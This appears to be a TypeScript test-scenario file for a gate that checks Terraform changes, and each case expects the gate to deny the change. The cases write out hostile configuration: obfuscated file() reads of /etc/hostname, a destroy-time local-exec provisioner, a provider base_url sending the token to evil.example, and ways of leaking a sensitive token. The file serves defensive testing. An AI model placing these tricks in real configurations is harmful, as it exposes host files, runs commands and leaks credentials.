/** Expressions that are not what they look like, what hides beside them, and secrets that leave through them. */
import type { JsonObject } from '../../../scripts/plan/types.ts';
import { agreed, approved, everyday, newId, propose } from '../acts.ts';
import { withBlock, withRecord, type Estate } from '../estate.ts';
import type { Attempt, Proof, Scenario } from '../scenario.ts';
import type { World } from '../world.ts';

interface Trick {
  readonly trick: string;
  readonly edit: (estate: Estate) => Estate;
  readonly says: string;
  /** Rules that object as well. */
  readonly rules?: readonly string[];
}

const refusal = { exit: 'denied', checks: ['rules/plan-safe-configuration', 'rehearsal'] } as const;

/** Each trick rides on the everyday change, and everybody approves it. */
async function proofOf(
  world: World,
  honest: readonly Trick['edit'][],
  tricks: readonly Trick[],
): Promise<Proof> {
  const proof: { honest: Proof['honest'][number][]; attempts: Attempt[] } = { honest: [], attempts: [] };
  for (const edit of honest) {
    const pull = await propose(world, { id: newId(), edit: (estate) => edit(everyday.edit(estate)) });
    proof.honest.push(await approved(world, pull));
  }
  for (const { edit, rules = [], says, trick } of tricks) {
    const outcome = await agreed(world, { id: newId(), edit: (estate) => edit(everyday.edit(estate)) });
    proof.attempts.push({ trick, outcome, exit: refusal.exit, checks: [...rules, ...refusal.checks], says });
  }
  return proof;
}

function comment(text: string): Trick['edit'] {
  return (estate) => withRecord(estate, 'www', { comment: text });
}

const readsFile = 'calls file(), which is not known to depend on its arguments alone';
const fromMachine: readonly Trick[] = [
  { trick: 'a comment before the bracket', edit: comment('${file/**/("/etc/hostname")}'), says: readsFile },
  {
    trick: 'the same of another function',
    edit: comment('${length(fileset/**/("/etc", "*"))}'),
    says: 'calls fileset()',
  },
  { trick: 'a blank before the dot', edit: comment('${path .cwd}'), says: 'reads path.cwd' },
  {
    trick: 'a brace in a comment',
    edit: comment('${ 1 /* } */ + length(file("/etc/hostname")) }'),
    says: readsFile,
  },
  {
    trick: 'the key of an instance, by which a failing rehearsal would tell it',
    edit: comment('${join("", [for key in [file /**/ ("/etc/hostname")] : key])}'),
    says: readsFile,
  },
  {
    trick: 'the name of a member',
    edit: comment('${keys({ (file\t("/etc/hostname")) = 1 })[0]}'),
    says: readsFile,
  },
];

const beside: readonly Trick[] = [
  {
    trick: 'commands of a resource that goes',
    edit: (estate) =>
      withBlock(
        estate,
        'removed',
        () =>
          [
            {
              from: 'terraform_data.gone',
              lifecycle: { destroy: true },
              provisioner: [{ 'local-exec': { when: 'destroy', command: 'id' } }],
            },
          ] as unknown as JsonObject,
      ),
    says: 'removed: has a provisioner, which runs commands',
  },
  {
    trick: 'a provider that is only named',
    edit: (estate) => withRecord(estate, 'www', { provider: 'external' }),
    says: 'is made by a provider that the stack does not declare',
    rules: ['rules/plan-providers-allowed'],
  },
  {
    trick: 'a module beside the bundle',
    edit: (estate) => withBlock(estate, 'module', () => ({ x: { source: './x' } })),
    says: 'module.x: is configuration that the bundle does not hold',
    rules: [],
  },
  {
    trick: 'the token is sent to a server of somebody else',
    edit: (estate) =>
      withBlock(estate, 'provider', () => ({ cloudflare: [{ base_url: 'https://evil.example/client/v4' }] })),
    says: 'provider.cloudflare.base_url: may send the requests of the release, with its token, to another server',
    rules: [],
  },
];

const secret = { token: { type: 'string', default: 'nothing-secret', sensitive: true } };

function withSecret(edit: Trick['edit']): Trick['edit'] {
  return (estate) => edit(withBlock(estate, 'variable', () => secret));
}

const leaks: readonly Trick[] = [
  {
    trick: 'the mark is taken off',
    edit: withSecret(comment('${nonsensitive(var.token)}')),
    says: 'calls nonsensitive(), which would show a value that is sensitive',
  },
  {
    trick: 'into a plain argument',
    edit: withSecret(comment('v=${var.token}')),
    says: 'puts var.token, which is sensitive or may be, into comment',
  },
  {
    trick: 'through a local, encoded',
    edit: withSecret((estate) =>
      withBlock(comment('${local.b}')(estate), 'locals', () => ({
        a: { x: ['${var.token}'] },
        b: '${base64encode(jsonencode(local.a))}',
      })),
    ),
    says: 'puts local.b, which is sensitive or may be, into comment',
  },
  {
    trick: 'through an output that is not marked',
    edit: withSecret((estate) => withBlock(estate, 'output', () => ({ o: { value: '${var.token}' } }))),
    says: 'output.o: puts var.token',
  },
];

export const expressions: readonly Scenario[] = [
  {
    id: 'H01',
    attack: 'an expression that Terraform reads in another way than the gate',
    run: (world) =>
      proofOf(world, [comment('${ lower /* } */ ("HELD") # by "us"\n} at $${file("/x")}')], fromMachine),
  },
  {
    id: 'H02',
    attack: 'what runs beside the resources of a configuration',
    run: (world) =>
      proofOf(world, [(estate) => withRecord(estate, 'www', { provider: 'cloudflare' })], beside),
  },
  {
    id: 'H03',
    attack: 'a sensitive value that flows to where it is shown',
    run: (world) =>
      proofOf(
        world,
        [
          withSecret((estate) =>
            withBlock(estate, 'output', () => ({ o: { value: '${var.token}', sensitive: true } })),
          ),
        ],
        leaks,
      ),
  },
];
